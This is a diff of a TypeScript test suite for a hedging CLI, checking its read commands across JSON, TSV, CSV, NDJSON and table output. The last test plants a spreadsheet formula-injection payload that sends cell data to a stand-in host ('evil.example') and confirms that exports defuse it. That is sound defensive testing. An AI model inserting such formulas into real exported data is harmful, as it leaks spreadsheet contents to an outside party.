@@ -1,8 +1,10 @@
-// Every read command against one sandbox with a known history, in the three output modes:
-// --json parses, matches the schema and equals what the API answered (nothing dropped); plain
-// (no TTY) has a header row of keys over the expected tab-separated rows; the forced-TTY table (80
-// columns) matches a reviewed snapshot.
-// The sandbox's clock is frozen and the CLI's clock pinned to it, so the snapshots are stable.
+// Every read command through the real binary against one frozen simulator with a known history, the
+// CLI's clock pinned to it, in every output mode: --json matches the schema and is what the API
+// answered (nothing dropped); tsv (no TTY) and csv carry a header row of field keys in the documented
+// column order (docs/output.md) with the same values; ndjson is the JSON one element per line; --fields
+// picks and orders columns; --query (JMESPath) reshapes the JSON; the forced-TTY table (80 columns)
+// matches a reviewed snapshot. Bad --fields and --query are exit 2, a bad --query before any request.
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as z from 'zod/mini';
 import {
@@ -13,12 +15,12 @@ import {
   positionSchema,
   quoteSchema,
 } from '../../src/platform/api/schemas.js';
-import type { RunningSandbox } from '../../src/sandbox/index.js';
-import { runHedge, tempDir } from '../support/hedge-cli.js';
+import { exits, ok as succeeded } from '../support/cli-runs.js';
+import type { HedgeArgs, RunResult } from '../support/hedge-cli.js';
 import { FROZEN_KEY } from '../support/keys.js';
-import { apiData, pinnedClockEnv, startSimulator, type Simulator } from '../support/simulator.js';
+import { apiData, pinnedClockEnv, startSimulator, withSimulator, type Simulator } from '../support/simulator.js';
 import { printedLines as lines } from '../support/output/text.js';
-import { HEDGE_COLUMNS, POSITION_COLUMNS } from './columns.js';
+import { HEDGE_COLUMNS, HISTORY_COLUMNS, POSITION_COLUMNS } from './columns.js';
 
 const priceSchema = z.looseObject({ market: z.string(), price: z.number(), timestamp: z.string() });
 const wireHistorySchema = z.extend(historyRecordSchema, {
@@ -32,101 +34,219 @@ const wireHistorySchema = z.extend(historyRecordSchema, {
 });
 
 let simulator: Simulator;
-let sandbox: RunningSandbox;
-let config: { path: string; remove: () => void };
 let buyId: string;
 let sellId: string;
+/** Each hedge's deal reference (GET /hedges): what a position's `client_reference` column is joined from. */
+let referenceOfHedge = new Map<string, unknown>();
+
+/** The command with the CLI's clock pinned to the simulator's (`env` added). */
+const hedge = (args: HedgeArgs, env = {}) => simulator.hedge(args, { env: { ...pinnedClockEnv(simulator), ...env } });
+/** What a run that must exit 0 printed. */
+async function ok(args: HedgeArgs) {
+  const result = await hedge(args);
+  expect(result.code, `hedge ${String(args)}\n${result.stderr}`).toBe(0);
+  return result.stdout;
+}
 
 /**
  * The same command three ways, concurrently: --json read against `schema` and, given `wire`, equal to
  * what GET `wire` answers (nothing dropped).
  */
 async function inAllModes<S extends z.ZodMiniType>(args: string, schema: S, wire?: string) {
-  const env = { ...simulator.env, ...pinnedClockEnv(simulator) };
   const [json, plain, tty] = await Promise.all([
-    runHedge(`${args} --json`, { env, configDir: config.path }),
-    runHedge(args, { env, configDir: config.path }),
-    runHedge(args, { env: { ...env, HEDGE_FORCE_TTY: '1' }, configDir: config.path }),
+    hedge(`${args} --json`),
+    hedge(args),
+    hedge(args, { HEDGE_FORCE_TTY: '1' }),
   ]);
   for (const result of [json, plain, tty]) expect(result.code, result.stderr).toBe(0);
   const data = JSON.parse(json.stdout);
   const check = schema.safeParse(data);
   expect(check.success, JSON.stringify(check.error?.issues)).toBe(true);
-  if (wire) expect(data).toEqual(await apiData(sandbox, 'GET', wire));
+  if (wire) expect(data).toEqual(await apiData(simulator, 'GET', wire));
   return { json, plain, tty, data: data as z.infer<S> };
 }
 
+/** Tab-separated lines as cells. */
+const tsvRows = (text: string) => lines(text).map((line) => line.split('\t'));
 /** TSV as records: the header row's keys over each row's cells (formats: a header row of field keys). */
 function tsvRecords(text: string) {
-  const [header, ...rows] = lines(text).map((line) => line.split('\t'));
+  const [header, ...rows] = tsvRows(text);
   return rows.map((cells) => Object.fromEntries(header.map((key, index) => [key, cells[index]])));
+}
+/** A cell as TSV/CSV write the value: raw numbers, ISO times, empty when absent. */
+const cell = (value: unknown) => (value === undefined || value === null ? '' : String(value));
+
+/** The value of a column for a record: markets flatten their per-side objects into columns. */
+function columnValue(record: Record<string, any>, key: string) {
+  const side = /^(capacity|carry)_(buy|sell)_/.exec(key);
+  if (side) return (side[1] === 'capacity' ? record.available_capacity_usd : record.net_rate_daily_pct)[side[2]];
+  // A position carries no reference of its own (the spec shows none): it is its hedge's.
+  if (key === 'client_reference' && record.client_reference === undefined && typeof record.hedge_id === 'string')
+    return referenceOfHedge.get(record.hedge_id);
+  return record[key];
 }
 
 beforeAll(async () => {
   simulator = await startSimulator({ preset: 'frozen' });
-  sandbox = simulator.sandbox;
+  const { sandbox } = simulator;
   // Three closed (settled and closed early) and one failed hedge, all in the past.
   sandbox.seedHedges({ apiKey: FROZEN_KEY, count: 3, status: 'closed' });
   sandbox.seedHedges({ apiKey: FROZEN_KEY, count: 1, status: 'failed' });
-  buyId = (
-    await apiData(sandbox, 'POST', '/hedges', {
-      market: 'USDTNGN',
-      side: 'buy',
-      notional_usd: 25_000,
-      tenor_days: 7,
-      client_reference: 'DEAL-42',
-    })
-  ).id;
+  const buy = { market: 'USDTNGN', side: 'buy', notional_usd: 25_000, tenor_days: 7, client_reference: 'DEAL-42' };
+  buyId = (await apiData(sandbox, 'POST', '/hedges', buy)).id;
   // An hour later the buy has filled and carried; the sell submitted now stays `submitted` (frozen clock).
   sandbox.clock.advance(3_600_000);
-  sellId = (
-    await apiData(sandbox, 'POST', '/hedges', { market: 'USDTNGN', side: 'sell', notional_usd: 10_000, tenor_days: 3 })
-  ).id;
-  config = tempDir();
+  const sell = { market: 'USDTNGN', side: 'sell', notional_usd: 10_000, tenor_days: 3 };
+  sellId = (await apiData(sandbox, 'POST', '/hedges', sell)).id;
+  const hedges = await apiData(simulator, 'GET', '/hedges?limit=500');
+  referenceOfHedge = new Map(hedges.map((entry: any) => [entry.id, entry.client_reference]));
 });
 
 afterAll(async () => {
   await simulator?.close();
-  config?.remove();
 });
 
-describe('read commands in every output mode', () => {
-  it('markets', async () => {
-    const { plain, tty, data: markets } = await inAllModes('markets', z.array(marketSchema), '/markets');
-    const [m] = markets;
-    expect(lines(plain.stdout)).toEqual([
-      'market\tstatus\tprice\tcapacity_buy_usd\tcapacity_sell_usd\tcarry_buy_daily_pct\tcarry_sell_daily_pct',
-      [
-        m.market,
-        m.status,
-        m.price,
-        m.available_capacity_usd.buy,
-        m.available_capacity_usd.sell,
-        m.net_rate_daily_pct.buy,
-        m.net_rate_daily_pct.sell,
-      ].join('\t'),
+/** What a list's --json, plain and table runs gave, for the checks of that list alone. */
+type Shown = { records: any[]; plain: RunResult; tty: RunResult };
+type List = { schema: z.ZodMiniType; wire: string; columns: string[]; more?: (shown: Shown) => unknown };
+const PRICE: List = {
+  schema: z.array(priceSchema),
+  wire: '/prices?symbols=USDTNGN',
+  columns: ['market', 'price', 'timestamp'],
+  // --json is the server's data as it came: the list GET /prices answered, of one market here.
+  more: ({ records }) => expect(records.map((record) => record.market)).toEqual(['USDTNGN']),
+};
+/** Each list: its schema, the path its --json is what GET answers, its documented columns and its own checks. */
+const LISTS: Record<string, List> = {
+  markets: {
+    schema: z.array(marketSchema),
+    wire: '/markets',
+    columns: 'market status price capacity_buy_usd capacity_sell_usd carry_buy_daily_pct carry_sell_daily_pct'.split(
+      ' ',
+    ),
+  },
+  // Without a market every listed market.
+  price: PRICE,
+  'price USDTNGN': PRICE,
+  hedges: {
+    schema: z.array(hedgeSchema),
+    wire: '/hedges',
+    columns: HEDGE_COLUMNS,
+    // Newest first; the filled buy with its hashes whole (on screen shortened, or the column left out at 80).
+    more: ({ records, tty }) => {
+      expect([records.length, records.slice(0, 2).map((record) => record.id)]).toEqual([6, [sellId, buyId]]);
+      const [, buy] = records;
+      expect(buy).toMatchObject({ client_reference: 'DEAL-42', notional_usd: 25_000, tenor_days: 7, status: 'filled' });
+      expect([buy.closed_at, buy.order_tx_hash]).toEqual([undefined, expect.stringMatching(/^0x[0-9a-f]{64}$/)]);
+      expect(tty.stdout).not.toContain(buy.order_tx_hash);
+    },
+  },
+  history: {
+    schema: z.array(wireHistorySchema),
+    wire: '/hedges/history',
+    columns: HISTORY_COLUMNS,
+    // Realized P&L totals: a row in the table, stderr in plain mode, absent from the data.
+    more: ({ records, plain, tty }) => {
+      expect(records).toHaveLength(3);
+      expect(plain.stdout).not.toMatch(/total/i);
+      const netTotal = Math.round(records.reduce((sum, r) => sum + r.net_pnl_usd * 100, 0)) / 100;
+      expect(plain.stderr).toContain(`Total (3 hedges)\t`);
+      expect(plain.stderr).toContain(`net_pnl_usd=${netTotal}`);
+      // The totals row: its label whole, or (80 columns, the hedge id hidden) its short form.
+      expect(tty.stdout).toMatch(/^Total \(3(?: hedges)?\) +340,000\.00 /m);
+    },
+  },
+  positions: {
+    schema: z.array(positionSchema),
+    wire: '/positions',
+    columns: POSITION_COLUMNS,
+    // One line per open side (the submitted sell is not a position): the server's object untouched, and
+    // beside it, under names of hedge's own and first, the side's references and its book: its state and
+    // its live hedge as the record shows it.
+    more: async ({ records, tty }) => {
+      expect([
+        records.map((record) => [record.market, record.side, record.hedge_id]),
+        records.map((record) => Object.keys(record).slice(0, 2)),
+        records.map(({ client_reference, client_references }) => ({ client_reference, client_references })),
+        records.map((record) => record.side_book),
+      ]).toEqual([
+        [['USDTNGN', 'buy', buyId]],
+        [['client_reference', 'client_references']],
+        [{ client_reference: 'DEAL-42', client_references: ['DEAL-42'] }],
+        [
+          {
+            state: 'in-step',
+            why: null,
+            records_notional_usd: 25_000,
+            hedges: [await apiData(simulator, 'GET', `/hedges/${buyId}`)],
+          },
+        ],
+      ]);
+      expect(tty.stdout).toContain('DEAL-42');
+    },
+  },
+};
+
+describe.each(Object.keys(LISTS))('%s', (command) => {
+  const { schema, wire, columns, more } = LISTS[command];
+  it('json is the data as the API answered; tsv, csv and ndjson carry the same records in the documented columns; the table is its snapshot', async () => {
+    const [{ json, plain, tty }, csv, ndjson, bare] = await Promise.all([
+      inAllModes(command, schema, command === 'positions' ? undefined : wire),
+      ok(`${command} --format csv`),
+      ok(`${command} --format ndjson`),
+      ok(`${command} --format tsv --no-header`),
     ]);
+    const records = JSON.parse(json.stdout);
+    if (command === 'positions')
+      expect(
+        records.map(({ side_book: _book, client_reference: _one, client_references: _all, ...sent }: any) => sent),
+      ).toEqual(await apiData(simulator, 'GET', wire));
+    expect(records.length).toBe(command === 'history' ? 3 : command === 'hedges' ? 6 : 1);
+    const expected = records.map((record: any) => columns.map((key) => cell(columnValue(record, key))));
+    expect([tsvRows(plain.stdout), tsvRows(bare), parse(csv), lines(ndjson).map((line) => JSON.parse(line))]).toEqual([
+      [columns, ...expected],
+      expected,
+      [columns, ...expected],
+      records,
+    ]);
+    await more?.({ records, plain, tty });
     expect(tty.stdout).toMatchSnapshot();
   });
 
-  it.each([
-    ['price without a market lists every listed market', 'price'],
-    ['price of one market', 'price USDTNGN'],
-  ])('%s', async (_name, args) => {
-    const { plain, tty, data } = await inAllModes(args, z.array(priceSchema), '/prices?symbols=USDTNGN');
-    // --json is the server's data as it came: the list GET /prices answered, of one market here.
-    const [price, ...others] = data;
-    expect([price.market, others]).toEqual(['USDTNGN', []]);
-    // One record: a header row of keys and one row, its time in full.
-    expect(lines(plain.stdout)).toEqual(['market\tprice\ttimestamp', `USDTNGN\t${price.price}\t${price.timestamp}`]);
-    expect(plain.stdout).toMatch(/\t\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z\n$/);
-    expect(tty.stdout).toMatchSnapshot();
+  if (command === 'price USDTNGN') return;
+  it('--fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
+    const [second, first] = [columns[2], columns[0]];
+    const [json, tsv, csv, fieldsJson, query, queryNd] = await Promise.all([
+      ok(`${command} --json`),
+      ok(`${command} --fields ${second},${first}`),
+      ok(`${command} --fields ${second},${first} --format csv --no-header`),
+      ok(`${command} --fields ${second},${first} --json`),
+      ok(`${command} --query [].${first}`),
+      ok([command, '--query', `[].{a: ${first}}`, '--format', 'ndjson']),
+    ]);
+    const records = JSON.parse(json);
+    const pairs = records.map((record: any) => [cell(columnValue(record, second)), cell(columnValue(record, first))]);
+    expect([tsvRows(tsv), parse(csv)]).toEqual([[[second, first], ...pairs], pairs]);
+    const picked = JSON.parse(fieldsJson);
+    expect([
+      [
+        picked.map((record: any) => Object.keys(record)),
+        picked.map((record: any) => [cell(record[second]), cell(record[first])]),
+        JSON.parse(query),
+      ],
+      lines(queryNd).map((line) => JSON.parse(line)),
+    ]).toEqual([
+      [records.map(() => [second, first]), pairs, records.map((record: any) => record[first])],
+      records.map((record: any) => ({ a: record[first] })),
+    ]);
   });
+});
 
+describe('records in every output mode', () => {
   it('quote USDTNGN buy 10000 --tenor 3 (the example, exactly as typed)', async () => {
     const { json, plain, tty, data: quote } = await inAllModes('quote USDTNGN buy 10000 --tenor 3', quoteSchema);
     expect(quote).toEqual(
-      await apiData(sandbox, 'POST', '/quotes', {
+      await apiData(simulator, 'POST', '/quotes', {
         market: 'USDTNGN',
         side: 'buy',
         notional_usd: 10_000,
@@ -155,48 +275,21 @@ describe('read commands in every output mode', () => {
     expect(tty.stdout).toMatchSnapshot();
   });
 
-  it('hedges lists newest first, every field in the documented column order (hashes whole)', async () => {
-    const { plain, tty, data: hedges } = await inAllModes('hedges', z.array(hedgeSchema), '/hedges');
-    expect(hedges).toHaveLength(6);
-    expect(hedges.slice(0, 2).map((h) => h.id)).toEqual([sellId, buyId]);
-    const [header, ...rows] = lines(plain.stdout).map((line) => line.split('\t'));
-    expect(header).toEqual(HEDGE_COLUMNS);
-    expect(rows.map((row) => row[0])).toEqual(hedges.map((h) => h.id));
-    const buy = hedges[1];
-    expect(rows[1]).toEqual([
-      buyId,
-      'DEAL-42',
-      'USDTNGN',
-      'buy',
-      '25000',
-      '7',
-      'filled',
-      String(buy.struck_rate),
-      buy.opened_at,
-      buy.maturity_at,
-      buy.filled_at,
-      '',
-      String(buy.units),
-      buy.order_key,
-      buy.order_tx_hash,
-      buy.fill_tx_hash,
+  it('hedges ID shows one hedge in full: a header row of the documented columns and one row in tsv and csv, tx hashes whole there, shortened on screen', async () => {
+    const [{ plain, tty, data: hedge }, csv] = await Promise.all([
+      inAllModes(`hedges ${buyId}`, hedgeSchema, `/hedges/${buyId}`),
+      ok(`hedges ${buyId} --format csv`),
     ]);
-    expect(buy.order_tx_hash).toMatch(/^0x[0-9a-f]{64}$/);
-    // On screen the hash is shortened (0x5f12…157b), or its column left out at 80 columns.
-    expect(tty.stdout).not.toContain(buy.order_tx_hash!);
-    expect(tty.stdout).toMatchSnapshot();
-  });
-
-  it('hedges ID shows one hedge in full: tx hashes whole in TSV, shortened on screen', async () => {
-    const { plain, tty, data: hedge } = await inAllModes(`hedges ${buyId}`, hedgeSchema, `/hedges/${buyId}`);
-    const [rows, ...more] = tsvRecords(plain.stdout);
-    expect(more).toEqual([]);
+    const [header, row, ...more] = tsvRows(plain.stdout);
     // Every field the hedge has, and the known ones it lacks as empty cells (closed_at: still open).
-    expect(Object.keys(rows).sort()).toEqual([...Object.keys(hedge), 'closed_at'].sort());
-    for (const [key, value] of Object.entries(hedge)) expect(rows[key]).toBe(String(value));
-    expect(rows.closed_at).toBe('');
-    expect(rows.order_tx_hash).toMatch(/^0x[0-9a-f]{64}$/);
-    expect(rows.fill_tx_hash).toBe(hedge.fill_tx_hash);
+    expect([more, header, [...header].sort(), row, parse(csv)]).toEqual([
+      [],
+      HEDGE_COLUMNS,
+      [...Object.keys(hedge), 'closed_at'].sort(),
+      header.map((key) => cell(hedge[key as keyof typeof hedge])),
+      [header, row],
+    ]);
+    expect(hedge.order_tx_hash).toMatch(/^0x[0-9a-f]{64}$/);
     for (const hash of [hedge.order_tx_hash!, hedge.fill_tx_hash!, hedge.order_key!]) {
       expect(tty.stdout).not.toContain(hash);
       expect(tty.stdout).toContain(`${hash.slice(0, 6)}…${hash.slice(-4)}`);
@@ -204,70 +297,80 @@ describe('read commands in every output mode', () => {
     expect(tty.stdout).toMatchSnapshot();
   });
 
-  it('history with realized P&L and totals (a row in the table, stderr in plain mode, absent from JSON)', async () => {
-    const { plain, tty, data: records } = await inAllModes('history', z.array(wireHistorySchema), '/hedges/history');
-    expect(records).toHaveLength(3);
-    const rows = lines(plain.stdout);
-    expect(rows).toHaveLength(4);
-    expect(rows[0].split('\t').slice(0, 2)).toEqual(['hedge_id', 'client_reference']);
-    expect(rows.slice(1).map((row) => row.split('\t')[0])).toEqual(records.map((r) => r.hedge_id));
-    expect(plain.stdout).not.toMatch(/total/i);
-    const netTotal = Math.round(records.reduce((sum, r) => sum + r.net_pnl_usd * 100, 0)) / 100;
-    expect(plain.stderr).toContain(`Total (3 hedges)\t`);
-    expect(plain.stderr).toContain(`net_pnl_usd=${netTotal}`);
-    // The totals row: its label whole, or (80 columns, the hedge id hidden) its short form.
-    expect(tty.stdout).toMatch(/^Total \(3(?: hedges)?\) +340,000\.00 /m);
+  it('account: a header row of keys and one row, in tsv and csv', async () => {
+    const [{ plain, tty, data: account }, csv] = await Promise.all([
+      inAllModes('account', accountSchema, '/account'),
+      ok('account --format csv'),
+    ]);
+    const [header, row, ...more] = tsvRows(plain.stdout);
+    expect([more, header, row, row[4], parse(csv)]).toEqual([
+      [],
+      'balance_usdc margin_in_use_usdc open_exposure_usd unrealized_pnl_usd open_positions available_exposure_usd exposure_cap_usd'.split(
+        ' ',
+      ),
+      header.map((key) => cell(account[key as keyof typeof account])),
+      '1',
+      [header, row],
+    ]);
     expect(tty.stdout).toMatchSnapshot();
   });
+});
 
-  it('positions: one line per open side (the submitted sell is not a position)', async () => {
-    const { plain, tty, data } = await inAllModes('positions', z.array(positionSchema));
-    const listed = data as Array<Record<string, unknown>>;
-    // The server's position objects untouched, every field kept; beside them, under names of
-    // hedge's own, the side's references and its book: its state and its live hedge as the record shows it.
-    const positions = listed.map(
-      ({ side_book: _book, client_reference: _one, client_references: _all, ...sent }) => sent,
-    ) as Array<z.infer<typeof positionSchema>>;
-    expect(positions).toEqual(await apiData(sandbox, 'GET', '/positions'));
-    expect(listed.map(({ client_reference, client_references }) => ({ client_reference, client_references }))).toEqual([
-      { client_reference: 'DEAL-42', client_references: ['DEAL-42'] },
-    ]);
-    expect(listed.map((position) => position.side_book)).toEqual([
-      {
-        state: 'in-step',
-        why: null,
-        records_notional_usd: 25_000,
-        hedges: [await apiData(sandbox, 'GET', `/hedges/${buyId}`)],
-      },
-    ]);
-    expect(positions.map((p) => [p.market, p.side, p.hedge_id])).toEqual([['USDTNGN', 'buy', buyId]]);
-    const [header, row] = lines(plain.stdout).map((line) => line.split('\t'));
-    const p = positions[0] as Record<string, unknown>;
-    const order = POSITION_COLUMNS;
-    expect(header).toEqual(order);
-    // The deal reference is the hedge's (GET /hedges), joined in; JSON stays the positions as sent.
-    expect(p.client_reference).toBeUndefined();
-    expect(row).toEqual(order.map((k) => (k === 'client_reference' ? 'DEAL-42' : String(p[k]))));
-    expect(tty.stdout).toContain('DEAL-42');
-    expect(lines(plain.stdout)).toHaveLength(2);
-    expect(tty.stdout).toMatchSnapshot();
+describe('refusals', () => {
+  it('an unknown --fields name is exit 2 naming it and the fields there are; stdout stays empty', async () => {
+    for (const format of ['tsv', 'csv', 'json', 'table']) {
+      const result = await hedge(`hedges --fields id,nope --format ${format}`);
+      expect(result.code, format).toBe(2);
+      expect(result.stdout).toBe('');
+      // Under --format json the error is JSON on stderr too.
+      const message = format === 'json' ? JSON.parse(result.stderr).error.message : result.stderr;
+      expect(message).toContain('--fields: "nope" is not a field here; available: id, client_reference, market, side,');
+    }
   });
 
-  it('account', async () => {
-    const { plain, tty, data: account } = await inAllModes('account', accountSchema, '/account');
-    const [header, row, ...more] = lines(plain.stdout).map((line) => line.split('\t'));
-    expect(more).toEqual([]);
-    expect(header).toEqual([
-      'balance_usdc',
-      'margin_in_use_usdc',
-      'open_exposure_usd',
-      'unrealized_pnl_usd',
-      'open_positions',
-      'available_exposure_usd',
-      'exposure_cap_usd',
+  it('a bad --query is exit 2 naming --query, before any request: one line for a person, the JSON error only with --json', async () => {
+    const before = simulator.sandbox.requestLog.length;
+    const [syntax, unknownFunction, asJson] = await Promise.all([
+      hedge('hedges --query [?status=='),
+      hedge('positions --query nosuch(@)'),
+      hedge('positions --query nosuch(@) --json'),
     ]);
-    expect(row[0]).toBe(String(account.balance_usdc));
-    expect(row[4]).toBe('1');
-    expect(tty.stdout).toMatchSnapshot();
+    for (const result of [syntax, unknownFunction, asJson]) {
+      exits(result, 2);
+      expect(result.stdout).toBe('');
+    }
+    // --query makes the data JSON, not the errors: without --json the refusal is one human line.
+    expect(syntax.stderr).toMatch(
+      /^hedge: --query "\[\?status==": .*; expected a JMESPath expression \(https:\/\/jmespath\.site\)\.\n$/,
+    );
+    expect(unknownFunction.stderr).toBe(
+      'hedge: --query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).\n',
+    );
+    expect(JSON.parse(asJson.stderr).error).toMatchObject({
+      code: 'usage',
+      message:
+        '--query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).',
+    });
+    expect(simulator.sandbox.requestLog.length).toBe(before);
+  });
+});
+
+describe('cells a spreadsheet would run as formulas (a deal reference is the user’s text)', () => {
+  it('TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    await withSimulator({}, async (own) => {
+      succeeded(await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`));
+      expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
+      const fields = '--fields client_reference,notional_usd';
+      const tsv = succeeded(await own.hedge(`hedges --format tsv ${fields}`));
+      const csv = succeeded(await own.hedge(`hedges --format csv ${fields}`));
+      expect([tsv.stdout.trimEnd().split('\n'), parse(csv.stdout)]).toEqual([
+        ['client_reference\tnotional_usd', `'${formula}\t1000`],
+        [
+          ['client_reference', 'notional_usd'],
+          [`'${formula}`, '1000'],
+        ],
+      ]);
+    });
   });
 });
